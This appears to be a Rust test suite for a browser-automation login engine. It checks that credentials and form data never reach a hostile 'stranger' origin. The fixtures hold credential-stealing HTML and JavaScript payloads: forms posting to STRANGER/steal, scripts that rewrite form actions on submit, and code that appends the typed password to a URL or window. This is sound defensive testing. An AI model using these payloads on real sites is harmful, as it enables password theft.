//! Nothing leaves the app: attacks of a page that was taken over, each with the stranger's own record of what it got.

use std::sync::Arc;

use idlcm::browser::LaunchOptions;
use idlcm::catalog::{Entry, OriginPattern};
use idlcm::contract::{Effect, ErrorKind, Integration, JobResult, Outcome};
use idlcm::engine::{self, AccountSecrets, BrowserSlot, GateRequest, LoginEnd, Order, WorkOrder};
use idlcm::recipe::Strictness;
use idlcm::secrets::Secret;
use serde_json::json;

use crate::app::job;
use crate::attacker::{Attack, Attacker, CREATE, EVE, LOGIN, PASSWORD};

const RECIPE: &str = r#"
schema: idlcm.recipe/1
app: {id: taken, name: Taken, version: 1, locale: en}
base_url: https://taken.example
service_account: [username, password]
settings: {timeouts: {step: 3s, page: 5s}}
resources: {users: {key: email, fields: {email: {type: email, required: true, write: [create]}}}}
screens:
  login: {FRAME recognise: {visible: [login.submit]}, elements: {name: {label: Name}, password: {label: Password}, submit: {role: button, name: Sign in}}}
  users: {recognise: {visible: [users.table]}, elements: {table: {role: table}, add: {role: link, name: New user}}}
  new_user: {recognise: {visible: [new_user.save]}, elements: {email: {label: Email}, save: {role: button, name: Save}}}
session:
  check: {goto: /users, screen: users}
  login:
    steps:
      - goto: /login
      - fill: {into: login.name, value: "{{ secrets.username }}"}
      - TYPE_PASSWORD
      - {click: login.submit, commit: true}
    outcomes: [{when: {screen: users}, is: done}]
views: {users: {open: [{goto: /users}], screen: users, rows: {role: row, within: users.table, has: {role: cell}}, key: email, complete: single_page, fields: {email: {column: Email}}}}
actions:
  users.list: {view: users}
  users.create:
    goal: {exists: true}
    steps: [{click: users.add}, {fill: {into: new_user.email, value: "{{ user.email }}"}}, {click: new_user.save, commit: true}]
    outcomes: [{when: {screen: users}, is: done}]
"#;

/// What came of a job, and what the gate was asked.
struct Told {
    result: JobResult,
    asked: usize,
    logins: Vec<LoginEnd>,
    /// Everything that is published or kept of it.
    written: String,
}

impl Told {
    fn kind(&self) -> ErrorKind {
        self.result.error.as_ref().map_or_else(|| panic!("{:?}", self.result), |error| error.kind)
    }
}

async fn play(attacker: &Attacker, recipe: &str, action: &str) -> Told {
    let text = recipe.replace("FRAME", "").replace("TYPE_PASSWORD", TYPED);
    let loaded = idlcm::recipe::check_text(std::path::Path::new("recipe.yaml"), &text, Strictness::Normal);
    assert!(loaded.recipe.is_some(), "{:#?}", loaded.diagnostics);
    let integration: Integration = serde_json::from_value(json!({
        "schema": "idlcm.integration/1", "id": "acme", "app": "taken", "base_url": attacker.url,
        "service_account": {"username": {"env": "NOT_READ"}, "password": {"env": "NOT_READ"}},
    }))
    .unwrap();
    let base_url: url::Url = attacker.url.parse().unwrap();
    let origins = vec![OriginPattern::of(&base_url).unwrap()];
    let entry = Entry {
        integration,
        recipe: Arc::new(loaded.recipe.unwrap()),
        base_url,
        origins,
        deliveries: std::collections::BTreeMap::new(),
    };
    let secrets = AccountSecrets { username: Secret::new("root"), password: Secret::new(PASSWORD), totp: None };
    let (gate, mut requests) = tokio::sync::mpsc::channel::<GateRequest>(1);
    let user = if action == "users.create" { json!({"user": {"email": EVE}}) } else { json!({}) };
    let work = WorkOrder::new(job(action, &user), gate, tokio_util::sync::CancellationToken::new());
    let evidence = tempfile::tempdir().unwrap();
    let launch = LaunchOptions::new(env!("CARGO_BIN_EXE_idlcm").into());
    let order = Order {
        work: &work,
        entry: &entry,
        secrets: &secrets,
        store: &idlcm::secrets::Store::default(),
        launch: &launch,
        evidence: Some(&evidence.path().into()),
        worker_id: "test",
    };
    let (mut asked, mut logins) = (0, Vec::new());
    let answers = async {
        while let Some(request) = requests.recv().await {
            match request {
                GateRequest::Login { reply, .. } => {
                    asked += 1;
                    reply.send(Ok(())).unwrap();
                }
                GateRequest::LoginEnded { end, reply, .. } => {
                    logins.push(end);
                    reply.send(Ok(())).unwrap();
                }
                other => other.grant(),
            }
        }
    };
    let mut slot = BrowserSlot::new();
    let done = tokio::select! {
        done = Box::pin(engine::execute(order, &mut slot)) => done,
        () = answers => unreachable!("the gate lives as long as the work"),
    };
    slot.close().await;
    let written = format!("{}\n{:?}", serde_json::to_string_pretty(&done.trace).unwrap(), done.result);
    println!("{written}\nthe stranger: {:#?}", attacker.asked());
    Told { result: done.result, asked, logins, written }
}

const TYPED: &str = r#"fill: {into: login.password, value: "{{ secrets.password }}"}"#;

/// The stranger has no part of what was typed, in no encoding, and was sent nothing.
fn got_nothing(attacker: &Attacker, what: &str) {
    let redactor = idlcm::secrets::Redactor::new([&Secret::new(PASSWORD), &Secret::new(EVE)]);
    for (method, path, told) in attacker.asked() {
        assert_eq!(method, axum::http::Method::GET, "{what}: {path}");
        assert_eq!(redactor.redact(&told), told, "{what}: {path}");
    }
}

async fn blocked(what: &str, attack: Attack, recipe: &str) -> (Attacker, Told) {
    let attacker = Attacker::start(attack).await;
    let told = play(&attacker, recipe, "users.list").await;
    assert_eq!(told.kind(), ErrorKind::OriginBlocked, "{what}: {:?}", told.result.error);
    assert_eq!((told.result.outcome, told.result.effect), (Outcome::Failed, Effect::None), "{what}");
    let message = &told.result.error.as_ref().unwrap().message;
    assert!(message.contains("`origins`"), "{what}: {message}");
    assert!(!told.written.contains(PASSWORD), "{what}");
    got_nothing(&attacker, what);
    (attacker, told)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_login_page_that_leads_elsewhere_is_not_logged_in_to() {
    let attacks = [
        ("a redirect", Attack { moved: Some("STRANGER/login"), ..Attack::default() }),
        ("a script", Attack { beside: "<script>location.replace('STRANGER/login')</script>", ..Attack::default() }),
        (
            "a refresh",
            Attack { beside: "<meta http-equiv=refresh content='0;url=STRANGER/login'>", ..Attack::default() },
        ),
        ("a window", Attack { beside: "<script>window.open('STRANGER/login')</script>", ..Attack::default() }),
        (
            "a form",
            Attack {
                login: Some(
                    "<form method=post action=STRANGER/steal><label>Name <input name=n></label> <label>Password <input name=p type=password></label> <button>Sign in</button></form>",
                ),
                ..Attack::default()
            },
        ),
        (
            "a form in a new window",
            Attack {
                login: Some(
                    "<form method=post target=_blank action=STRANGER/steal><label>Name <input name=n></label> <label>Password <input name=p type=password></label> <button>Sign in</button></form>",
                ),
                ..Attack::default()
            },
        ),
        (
            "a base",
            Attack {
                login: Some(
                    "<base href=STRANGER/><form method=post action=steal><label>Name <input name=n></label> <label>Password <input name=p type=password></label> <button>Sign in</button></form>",
                ),
                ..Attack::default()
            },
        ),
        (
            "a clobbered form",
            Attack {
                login: Some(
                    "<form method=post action=STRANGER/steal><input name=action value=/login hidden><label>Name <input name=n></label> <label>Password <input name=p type=password></label> <button>Sign in</button></form>",
                ),
                ..Attack::default()
            },
        ),
    ];
    for (what, attack) in attacks {
        let (attacker, told) = blocked(what, attack, RECIPE).await;
        // Nobody types a password there, so that no login was begun, or it was not sent.
        let begun = told.asked > 0 && told.logins != [LoginEnd::NotSent];
        assert!(!begun, "{what}: {:?}", told.logins);
        assert_eq!(attacker.logins(), 0, "{what}");
        attacker.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_that_turns_elsewhere_once_it_is_filled_in_sends_nothing() {
    let on = |event: &'static str, what: &'static str| {
        let script = format!("<script>document.forms[0].addEventListener('{event}', (e) => {{ {what} }})</script>");
        Attack { beside: Box::leak(script.into_boxed_str()), ..Attack::default() }
    };
    let attacks = [
        ("with the first letter", on("input", "document.forms[0].action = 'STRANGER/steal'")),
        ("with the click", on("click", "document.forms[0].action = 'STRANGER/steal'")),
        ("with the sending", on("submit", "e.target.action = 'STRANGER/steal'")),
        ("by its button", on("input", "document.querySelector('button').formAction = 'STRANGER/steal'")),
        ("into a new window", on("submit", "e.target.action = 'STRANGER/steal'; e.target.target = '_blank'")),
        (
            "into a frame",
            on(
                "submit",
                "const f = document.createElement('iframe'); f.name = 'f'; document.body.append(f); e.target.action = 'STRANGER/steal'; e.target.target = 'f'",
            ),
        ),
        (
            "as an address",
            on(
                "submit",
                "e.preventDefault(); location.href = 'STRANGER/steal?p=' + encodeURIComponent(e.target.p.value)",
            ),
        ),
        (
            "as another form",
            on(
                "submit",
                "e.preventDefault(); const f = document.createElement('form'); f.method = 'post'; f.action = 'STRANGER/steal'; f.innerHTML = '<input name=p>'; f.p.value = e.target.p.value; document.body.append(f); f.submit()",
            ),
        ),
        (
            "as a window",
            on("submit", "e.preventDefault(); window.open('STRANGER/steal?p=' + encodeURIComponent(e.target.p.value))"),
        ),
    ];
    for (what, attack) in attacks {
        let (attacker, _) = blocked(what, attack, RECIPE).await;
        assert_eq!(attacker.logins(), 0, "{what}");
        attacker.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_app_that_sends_its_own_login_on_to_elsewhere_is_left() {
    for (what, status) in [("with what was typed", 307), ("without it", 303)] {
        let (attacker, _) =
            blocked(what, Attack { lands: Some((status, "STRANGER/users")), ..Attack::default() }, RECIPE).await;
        // The app itself has its password. What became of the login is not known, and not guessed.
        assert_eq!(attacker.logins(), 1, "{what}");
        attacker.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_is_typed_into_no_frame_but_one_of_the_app() {
    // Beside the login, a field of the stranger that looks like the app's: nobody looks there.
    let beside = "<iframe src=STRANGER/frame></iframe><iframe src=STRANGER/hidden hidden></iframe><label hidden>Password <input type=password></label>";
    let attacker = Attacker::start(Attack { beside, ..Attack::default() }).await;
    let told = play(&attacker, RECIPE, "users.list").await;
    assert_eq!(told.result.outcome, Outcome::Succeeded, "{:?}", told.result.error);
    got_nothing(&attacker, "a frame beside the login");
    attacker.stop().await;

    // A frame that the recipe goes into.
    let framed = RECIPE.replace("{FRAME", "{frame: {css: iframe},");
    let frame = |html: &'static str| Attack { login: Some(html), ..Attack::default() };
    let attacks = [
        ("of the stranger", frame("<iframe src=STRANGER/frame></iframe>")),
        (
            "that was turned to the stranger",
            frame("<iframe id=f src=/form onload=\"f.onload = null; f.src = 'STRANGER/frame'\"></iframe>"),
        ),
        ("in a sandbox", frame("<iframe sandbox='allow-forms allow-scripts' src=/form></iframe>")),
    ];
    for (what, attack) in attacks {
        let (attacker, _) = blocked(what, attack, &framed).await;
        assert_eq!(attacker.logins(), 0, "{what}");
        attacker.stop().await;
    }
    // Of the app, until it holds the password.
    let leaves = |script: &'static str| Attack {
        login: Some("<iframe src=/form></iframe>"),
        beside: script,
        ..Attack::default()
    };
    let attacks = [
        (
            "as an address",
            leaves(
                "<script>if (parent !== window) document.forms[0].addEventListener('submit', (e) => { e.preventDefault(); location.href = 'STRANGER/steal?p=' + encodeURIComponent(e.target.p.value) })</script>",
            ),
        ),
        (
            "as a form",
            leaves(
                "<script>if (parent !== window) document.forms[0].addEventListener('submit', (e) => { e.target.action = 'STRANGER/steal' })</script>",
            ),
        ),
    ];
    for (what, attack) in attacks {
        let (attacker, _) = blocked(what, attack, &framed).await;
        assert_eq!(attacker.logins(), 0, "{what}");
        attacker.stop().await;
    }
    // Of the app itself, it is one like any other;
    let attacker = Attacker::start(frame("<iframe src=/form></iframe>")).await;
    let told = play(&attacker, &framed, "users.list").await;
    assert_eq!(attacker.logins(), 1, "{:?}", told.result.error);
    attacker.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_that_is_typed_key_by_key_goes_nowhere_else() {
    let keys =
        RECIPE.replace("TYPE_PASSWORD", r#"fill: {into: login.password, value: "{{ secrets.password }}", keys: true}"#);
    let form = "<form method=post action=STRANGER/steal><label>Name <input name=n></label> <label>Password <input name=p type=password></label> <button>Sign in</button></form>";
    let (attacker, _) = blocked("keys", Attack { login: Some(form), ..Attack::default() }, &keys).await;
    attacker.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_job_writes_is_sent_to_the_app_only() {
    let attacks = [
        (
            "a form",
            "<form method=post action=STRANGER/users><label>Email <input name=email></label> <button>Save</button></form>",
        ),
        (
            "a form that turns",
            "<form method=post action=/users onsubmit=\"this.action = 'STRANGER/users'\"><label>Email <input name=email></label> <button>Save</button></form>",
        ),
    ];
    for (what, create) in attacks {
        let attacker = Attacker::start(Attack { create: Some(create), ..Attack::default() }).await;
        let told = play(&attacker, RECIPE, "users.create").await;
        assert_eq!(told.kind(), ErrorKind::OriginBlocked, "{what}: {:?}", told.result.error);
        assert_ne!(told.result.outcome, Outcome::Succeeded, "{what}");
        assert_eq!(attacker.users(), [""; 0], "{what}");
        got_nothing(&attacker, what);
        attacker.stop().await;
    }
    // The same without an attack: the tests above fail for no other reason.
    let attacker = Attacker::start(Attack { create: Some(CREATE), login: Some(LOGIN), ..Attack::default() }).await;
    let told = play(&attacker, RECIPE, "users.create").await;
    assert_eq!(told.result.outcome, Outcome::Succeeded, "{:?}", told.result.error);
    assert_eq!(attacker.users(), [EVE]);
    assert_eq!(attacker.asked(), []);
    attacker.stop().await;
}
